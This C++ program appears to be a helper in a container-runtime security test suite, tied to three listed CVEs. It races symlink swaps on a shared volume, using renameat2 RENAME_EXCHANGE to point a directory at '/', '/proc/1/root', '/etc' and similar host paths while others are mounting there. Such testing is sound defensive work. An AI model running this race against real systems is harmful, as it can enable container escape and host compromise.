// A neighbour on a shared volume that exchanges a directory with links, again and again, while
// others are mounting there (CVE-2021-30465, CVE-2019-19921, CVE-2023-27561).
//   swap FOLDER   exchanges FOLDER/target and a link
#include <sys/stat.h>

#include "attack.h"

using namespace attack;

int main(int argc, char** argv) {
    if (argc < 2 || chdir(argv[1]) != 0) return 1;
    mkdir("target", 0755);
    mkdir("target/sub", 0755);
    constexpr const char* kTargets[] = {
        "/",    "/proc", "../../../../..", "/etc",          "/proc/self/fd", "/proc/1/root",
        "/dev", "/tmp",  "/proc/self/cwd", "/sys/fs/cgroup"};
    Say("swapping", "ok");
    for (unsigned long round = 0;; ++round) {
        // The link's name exchanges with the directory's, so that there is always one of them.
        if (round % 64 == 0) {
            symlink(kTargets[round / 64 % (sizeof kTargets / sizeof *kTargets)], "fresh");
            struct stat file;
            // Whichever of the two is the link now.
            const bool swapped = lstat("target", &file) == 0 && S_ISLNK(file.st_mode);
            rename("fresh", swapped ? "target" : "link");
        }
        syscall(SYS_renameat2, AT_FDCWD, "target", AT_FDCWD, "link", 2u /* RENAME_EXCHANGE */);
    }
}
